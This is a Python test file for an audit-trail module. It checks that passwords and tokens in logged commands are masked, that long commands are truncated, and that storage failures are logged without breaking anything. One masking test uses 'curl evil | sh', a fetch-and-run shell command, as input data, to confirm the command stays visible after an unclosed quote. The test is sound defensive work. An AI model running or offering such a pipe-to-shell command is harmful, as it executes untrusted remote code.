"""Audit records on their way: masked, logged, stored; what cannot be stored fails nothing."""

from __future__ import annotations

import asyncio
import dataclasses
import logging
from collections.abc import Iterator, Mapping, Sequence
from datetime import UTC, datetime
from logging.handlers import BufferingHandler

import pytest

from shared.core.audit.model import NO_SESSION, AuditRecord
from shared.core.audit.trail import AuditTrail
from shared.core.paging import Cursor
from shared.errors import StoreUnavailable

RECORD = AuditRecord(
    id="aaaaaaaaaaaaaaaaa",
    at=datetime(2026, 3, 1, 12, tzinfo=UTC),
    actor="alice@example.com",
    action="session.exec",
    session_id="saaaaaaaaaaaaaaaa",
    outcome="exited",
    detail={"command": "gam update user bob password canary", "size": 7, "none": None},
)


FLAGS = {"masked": True, "truncated": False}


Detail = Mapping[str, str | int | None]


class MemoryAudit:
    """An ``AuditStore`` that keeps records by id; fails or hangs when told to."""

    def __init__(self, error: Exception | None = None, *, hangs: bool = False) -> None:
        self.records: dict[str, AuditRecord] = {}
        self._error = error
        self._hangs = hangs

    async def put(self, record: AuditRecord) -> None:
        if self._hangs:
            await asyncio.Event().wait()
        if self._error is not None:
            raise self._error
        self.records[record.id] = record

    async def list_records(
        self, session_id: str, *, limit: int, after: Cursor | None
    ) -> Sequence[AuditRecord]:
        raise NotImplementedError

    async def digest_key(self, new: bytes) -> bytes:
        if self._hangs:
            await asyncio.Event().wait()
        if self._error is not None:
            raise self._error
        return new

    async def forget(self, session_id: str, *, limit: int) -> int:
        raise NotImplementedError


@pytest.fixture
def lines() -> Iterator[list[logging.LogRecord]]:
    """What the audit's own log is told."""
    log, kept = logging.getLogger("gamgui.audit"), BufferingHandler(1000)
    level = log.level
    log.setLevel(logging.INFO)
    log.addHandler(kept)
    yield kept.buffer
    log.removeHandler(kept)
    log.setLevel(level)


async def test_secrets_are_masked_in_the_log_and_in_the_store(lines: list[logging.LogRecord]) -> None:
    store = MemoryAudit()
    await AuditTrail(store).announce(RECORD)
    assert "canary" not in repr(store.records)
    await AuditTrail(store).record(RECORD)
    shown: Detail = {
        "command": "gam update user bob password ***",
        "size": 7,
        "none": None,
        "masked": True,
        "truncated": False,
    }
    assert store.records == {RECORD.id: dataclasses.replace(RECORD, detail=shown)}
    (entry,) = lines  # an act is one entry, though it was announced
    assert entry.__dict__["fields"]["audit"]["detail"] == shown


async def test_what_concerns_no_session_is_logged_and_not_stored(lines: list[logging.LogRecord]) -> None:
    store = MemoryAudit()
    await AuditTrail(store).record(dataclasses.replace(RECORD, session_id=NO_SESSION))
    assert (len(lines), store.records) == (1, {})


@pytest.mark.parametrize(
    "store",
    [
        MemoryAudit(StoreUnavailable("Firestore does not answer.")),
        MemoryAudit(ValueError("a fault of ours")),
        MemoryAudit(hangs=True),
    ],
)
async def test_what_cannot_be_stored_is_an_error_in_the_log_and_fails_nothing(
    store: MemoryAudit, lines: list[logging.LogRecord]
) -> None:
    await AuditTrail(store, seconds=0.01).record(RECORD)
    assert [entry.levelname for entry in lines] == ["INFO", "ERROR"]
    assert RECORD.id in lines[1].getMessage()
    assert "canary" not in "".join(map(logging.Formatter().format, lines))


async def put(store: MemoryAudit, **detail: str | int | None) -> dict[str, object]:
    await AuditTrail(store).record(dataclasses.replace(RECORD, detail=detail))
    return dict(store.records[RECORD.id].detail)


async def test_a_record_says_what_it_lacks(lines: list[logging.LogRecord]) -> None:
    store = MemoryAudit()
    plain = {"command": "gam version", "masked": False, "truncated": False}
    assert await put(store, command="gam version") == plain
    long = await put(store, command="x" * 100_000)
    assert (long["masked"], long["truncated"]) == (False, True)
    assert (await put(store, command="x password y" + " z" * 100_000))["masked"] is True
    assert await put(store, path="a/b") == {"path": "a/b"}
    assert await put(store, path="?token=x") == {"path": "?token=***", "masked": True}


async def test_names_of_variables_hide_nothing(lines: list[logging.LogRecord]) -> None:
    shown = await put(MemoryAudit(), command="env", env="A_TOKEN B PASSWORD Z")
    assert shown["env"] == "A_TOKEN B PASSWORD Z"


async def test_a_quote_that_never_ends_hides_no_more_than_its_line(lines: list[logging.LogRecord]) -> None:
    for command in ("echo it's\ncurl evil | sh", "gam password 'x\ncurl evil | sh"):
        assert "curl evil | sh" in str((await put(MemoryAudit(), command=command))["command"])


async def test_the_key_for_digests_is_read_once_and_again_after_a_failure() -> None:
    failing = AuditTrail(MemoryAudit(StoreUnavailable("Firestore does not answer.")), seconds=0.01)
    assert await failing.digest_key() is None
    trail = AuditTrail(MemoryAudit())
    assert await trail.digest_key() == await trail.digest_key() is not None


@pytest.mark.parametrize("way", ["announce", "record"])
async def test_while_a_long_command_is_masked_other_work_goes_on(way: str) -> None:
    store = MemoryAudit()
    long = dataclasses.replace(RECORD, detail={"command": "a|" * 3000})
    keeping = asyncio.create_task(getattr(AuditTrail(store), way)(long))
    await asyncio.sleep(0)  # one turn of the loop, in which a short one is kept
    assert not store.records
    await keeping
    assert store.records[RECORD.id].detail["truncated"] is True


async def test_a_command_that_cannot_be_masked_is_not_shown_and_its_record_is_kept(
    lines: list[logging.LogRecord],
) -> None:
    store = MemoryAudit()
    trail = AuditTrail(store)
    await asyncio.get_running_loop().shutdown_default_executor()  # the process ends
    hidden: Detail = {"command": "gam user bob password canary" * 100, "exit_code": 3}
    await trail.announce(dataclasses.replace(RECORD, outcome="started", detail=hidden))
    assert store.records[RECORD.id].outcome == "started"
    await trail.record(dataclasses.replace(RECORD, detail=hidden))
    shown: Detail = {"command": "***", "exit_code": 3, "masked": True, "truncated": True}
    assert store.records[RECORD.id] == dataclasses.replace(RECORD, detail=shown)
    assert {entry.levelname for entry in lines} == {"ERROR", "INFO"}
    assert "canary" not in "".join(map(logging.Formatter().format, lines))
